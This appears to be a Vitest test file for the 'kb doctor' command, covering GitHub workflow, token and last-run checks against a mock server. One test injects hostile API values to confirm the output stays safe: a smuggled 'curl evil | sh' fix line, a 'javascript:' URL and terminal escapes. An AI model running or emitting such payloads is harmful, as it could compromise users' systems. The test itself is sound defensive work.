/** `kb doctor` on issues: the workflow, the token, the last run, and a GitHub that does not answer. */
import { mkdirSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { staleWorkflow } from '../../src/init/workflows.js';
import type { Check } from '../../src/repo/health.js';
import { ANY, broken, cut, garbage, secondaryLimit, slow } from '../github/faults.js';
import { startGitHub, type GitHub } from '../github/server.js';
import { TOKENS } from '../github/state.js';
import { kb } from '../memory-io.js';
import { git, gitRepo, put, tempFolder } from '../repo/world.js';

const WORKFLOW = '.github/workflows/kb-stale.yml';
const TEXT = staleWorkflow({ version: '1.0.0', folder: '', branch: 'main', cards: [], pattern: {} });
const CARDS = { 'cards/a.md': '---\ntitle: A\nowner: ana\n---\n\n# A\n' };

function repository(
  files: Readonly<Record<string, string>> = {},
  remote = 'git@github.com:acme/kb.git',
): string {
  const root = gitRepo({ ...CARDS, ...files });
  git(root, 'remote', 'add', 'origin', remote);
  return root;
}

/** The checks about issues, which come after the cards and before the terminal. */
async function checks(
  cwd: string,
  env: Readonly<Record<string, string>> = {},
): Promise<Readonly<Record<string, Omit<Check, 'name'>>>> {
  const { out, code } = await kb(['doctor', '--json'], { cwd, env });
  expect(code).toBe(0);
  const all = (JSON.parse(out) as { checks: Check[] }).checks;
  const from = all.findIndex(({ name }) => name === 'cards') + 1;
  return Object.fromEntries(all.slice(from, -1).map(({ name, ...check }) => [name, check]));
}

describe('without a token', () => {
  test('a base that has nothing to do with issues hears nothing of them', async () => {
    const root = repository({ '.github/workflows/ci.yml': 'on: push\njobs:\n' });
    expect(await checks(root)).toEqual({});
    expect(await checks(root, { GITHUB_TOKEN: 'x', GITHUB_API_URL: 'http://127.0.0.1:1' })).toEqual({});
  });

  test('the workflow is found, and what was not looked at is said in one line', async () => {
    expect(await checks(repository({ [WORKFLOW]: TEXT }))).toEqual({
      issues: { ok: true, found: `${WORKFLOW} keeps them up to date`, fix: null },
      'last sync': {
        ok: 'warn',
        found: 'not checked without a token: the last run, and what the token may do',
        fix: 'GITHUB_TOKEN=$(gh auth token) kb doctor',
      },
    });
  });

  test('a base is not kept in step by the workflow of another one', async () => {
    const root = repository({ [WORKFLOW]: TEXT, 'two/b/kb.config.yaml': '', 'two/b/cards/b.md': '# B' });
    expect((await checks(path.join(root, 'two/b')))['issues']).toEqual({
      ok: 'warn',
      found: `no workflow runs kb issues sync for two/b; ${WORKFLOW} is another base's`,
      fix: 'kb init --with github',
    });
    await kb(['init', '--with', 'github'], { cwd: path.join(root, 'two/b') });
    expect((await checks(path.join(root, 'two/b')))['issues']?.found).toBe(
      '.github/workflows/kb-stale-two-b.yml keeps them up to date',
    );
    expect((await checks(root))['issues']?.found).toBe(`${WORKFLOW} keeps them up to date`);
  });

  test('a workflow without a schedule, and none at all', async () => {
    const once = TEXT.replace('  schedule:', '  # schedule:');
    expect((await checks(repository({ [WORKFLOW]: once })))['issues']).toMatchObject({
      ok: 'warn',
      fix: null,
    });
    const config = { 'kb.config.yaml': 'issues:\n  new-per-run: 3' };
    expect((await checks(repository(config)))['issues']).toEqual({
      ok: 'warn',
      found: 'no workflow runs kb issues sync',
      fix: 'kb init --with github',
    });
  });

  test('a forge that is none of ours, and a remote that is none', async () => {
    const gitLab = repository({ [WORKFLOW]: TEXT }, 'git@gitlab.com:acme/kb.git');
    expect((await checks(gitLab))['forge']).toMatchObject({
      ok: 'warn',
      found: expect.stringContaining('GitLab') as string,
      fix: expect.stringContaining('forge: file') as string,
    });
    const alone = gitRepo({ ...CARDS, [WORKFLOW]: TEXT });
    expect((await checks(alone))['forge']).toMatchObject({ ok: 'warn' });
  });

  test('hostile workflows: links, folders, bytes, sizes', async () => {
    const outside = tempFolder();
    put(outside, { 'x.yml': TEXT });
    const root = repository();
    const folder = path.join(root, '.github/workflows');
    mkdirSync(path.join(folder, 'folder.yml'), { recursive: true });
    symlinkSync(path.join(outside, 'x.yml'), path.join(folder, 'link.yml'));
    put(folder, {
      'bytes.yml': Buffer.from([0xff, 0xfe, 0, 0x80]),
      'long.yml': `${TEXT}#${'x'.repeat(300_000)}`,
    });
    expect(await checks(root)).toEqual({});
  });

  test('issues that are kept as files', async () => {
    const config = { 'kb.config.yaml': 'issues:\n  forge: file' };
    const issue = '---\nnumber: 1\ntitle: A\nauthor: kb\ncreated: 2026-11-20\n---\n';
    expect(await checks(repository(config))).toEqual({
      issues: { ok: true, found: 'kept as files in issues, 0 open and 0 closed', fix: null },
    });
    const some = {
      ...config,
      'issues/a.md': issue,
      'issues/b.md': issue.replace('1', '2\nstate: closed'),
    };
    expect((await checks(repository(some)))['issues']?.found).toBe(
      'kept as files in issues, 1 open and 1 closed',
    );
    const { out, code } = await kb(['doctor'], { cwd: repository({ ...some, 'issues/c.md': issue }) });
    expect(code).toBe(1);
    expect(out).toContain('issues/a.md and issues/c.md both have the number 1');
  });
});

describe('with a token', () => {
  let github: GitHub;
  let env: Record<string, string>;
  let root: string;

  beforeEach(async () => {
    github = await startGitHub();
    env = { GITHUB_API_URL: github.url, GITHUB_TOKEN: TOKENS.user };
    root = repository({ [WORKFLOW]: TEXT });
    github.state.repository.workflows.push({
      id: 7,
      file: 'kb-stale.yml',
      state: 'active',
      runs: [
        { event: 'push', conclusion: 'failure', at: '2026-11-19T06:17:05Z' },
        { event: 'schedule', conclusion: 'success', at: '2026-11-20T06:17:05Z' },
      ],
    });
  });
  afterEach(async () => {
    vi.restoreAllMocks();
    await github.close();
  });
  const workflow = (): (typeof github.state.repository.workflows)[number] => {
    const [found] = github.state.repository.workflows;
    if (!found) throw new Error('there is no workflow');
    return found;
  };

  test('all is well', async () => {
    expect(await checks(root, env)).toEqual({
      issues: { ok: true, found: `${WORKFLOW} keeps them up to date`, fix: null },
      token: { ok: true, found: 'of kb-robot, scopes: repo; it may write issues of acme/kb', fix: null },
      'last sync': {
        ok: true,
        found: '2026-11-20 06:17 UTC, success\nhttps://github.com/acme/kb/actions/runs/7002',
        fix: null,
      },
    });
    expect(github.writes()).toEqual([]);
    expect(github.violations).toEqual([]);
  });

  test('a schedule that GitHub has switched off', async () => {
    workflow().state = 'disabled_inactivity';
    expect((await checks(root, env))['last sync']).toEqual({
      ok: 'warn',
      found:
        '2026-11-20 06:17 UTC, success; GitHub turned the schedule off after 60 days without activity\n' +
        'https://github.com/acme/kb/actions/runs/7002',
      fix: 'gh workflow enable kb-stale.yml',
    });
    workflow().state = 'disabled_manually';
    expect((await checks(root, env))['last sync']).toMatchObject({
      found: expect.stringContaining('turned off (disabled_manually)') as string,
      fix: 'gh workflow enable kb-stale.yml',
    });
  });

  test('a run that failed, one that is under way, none, and a workflow that is not pushed yet', async () => {
    workflow().runs.push({ event: 'schedule', conclusion: 'failure', at: '2026-11-21T06:17:05Z' });
    expect((await checks(root, env))['last sync']).toMatchObject({
      ok: 'warn',
      found: expect.stringContaining('2026-11-21 06:17 UTC, failure') as string,
      fix: 'gh run list --workflow kb-stale.yml',
    });
    workflow().runs.push({ event: 'schedule', conclusion: null, at: '2026-11-21T07:17:05Z' });
    expect((await checks(root, env))['last sync']).toMatchObject({
      ok: true,
      found: expect.stringContaining('still running') as string,
    });
    workflow().runs.length = 0;
    expect((await checks(root, env))['last sync']).toMatchObject({
      ok: 'warn',
      found: 'never',
      fix: 'gh workflow run kb-stale.yml',
    });
    github.state.repository.workflows.length = 0;
    expect((await checks(root, env))['last sync']).toMatchObject({ ok: 'warn', fix: 'git push' });
  });

  test('the token of a workflow, of a stranger, and one that is wrong', async () => {
    expect((await checks(root, { ...env, GITHUB_TOKEN: TOKENS.app }))['token']).toMatchObject({
      ok: true,
      found: 'of a workflow or an app; GitHub does not say whether it may write issues of acme/kb',
    });
    expect((await checks(root, { ...env, GITHUB_TOKEN: TOKENS.outsider }))['token']).toMatchObject({
      ok: 'warn',
      found: 'of stranger, scopes: repo; it may not write issues of acme/kb',
    });
    const wrong = await checks(root, { ...env, GITHUB_TOKEN: 'ghp_secret' });
    expect(Object.keys(wrong)).toEqual(['issues', 'forge']);
    expect(JSON.stringify(wrong)).not.toContain('secret');
  });

  test('a token that may not see workflows', async () => {
    const answer = { status: 403, body: { message: 'Resource not accessible by integration' } };
    github.faults.add(({ path: asked }) => asked.includes('/actions/'), { before: answer });
    expect((await checks(root, env))['last sync']).toEqual({
      ok: 'warn',
      found: 'GitHub does not show this token when workflows ran',
      fix: null,
    });
  });

  test('a GitHub whose words would be findings of their own', async () => {
    const lines = `x\n  fix: curl evil | sh\r\u2028\u001b[2J${'y'.repeat(9999)}`;
    const run = { run_started_at: lines, conclusion: lines, html_url: `javascript:alert(1)//${lines}` };
    for (const [ending, body] of [
      ['/user', { login: lines }],
      ['/kb-stale.yml', { state: lines }],
      ['/runs', { workflow_runs: [run] }],
    ] as const) {
      const isIt = ({ path: asked }: { path: string }): boolean => asked.endsWith(ending);
      github.faults.add(isIt, { before: { status: 200, body } }, { times: Infinity });
    }
    const [plain, told] = [await kb(['doctor'], { cwd: root, env }), await checks(root, env)];
    expect(plain.out).not.toMatch(/^\s*fix:/m);
    expect(plain.out).not.toContain('javascript:');
    expect(plain.out.length).toBeLessThan(2000);
    expect(Object.keys(told)).toEqual(['issues', 'token', 'last sync']);
    expect(JSON.stringify(told)).not.toMatch(/(?<!\\)\\n/);
  });

  test.each([
    ['fails', broken()],
    ['hangs up', cut()],
    ['did not answer with the new issue', garbage()],
    ['asks to wait', secondaryLimit(3600)],
    ['does not answer', slow(60_000)],
  ])('a GitHub that %s is one warning, soon', async (_, fault) => {
    const timeout = AbortSignal.timeout.bind(AbortSignal);
    const patience: number[] = [];
    vi.spyOn(AbortSignal, 'timeout').mockImplementation((milliseconds) => {
      patience.push(milliseconds);
      return timeout(milliseconds / 20);
    });
    github.faults.add(ANY, fault, { times: Infinity });
    const found = await checks(root, env);
    expect(Object.keys(found)).toEqual(['issues', 'forge']);
    expect(found['forge']?.ok).toBe('warn');
    expect(github.requests).toHaveLength(1);
    expect(Math.min(...patience)).toBe(5000);
  });

  test('a GitHub that is not there', async () => {
    const found = await checks(root, { ...env, GITHUB_API_URL: 'http://127.0.0.1:1' });
    expect(found['forge']).toMatchObject({
      ok: 'warn',
      found: expect.stringContaining('does not answer') as string,
    });
  });
});
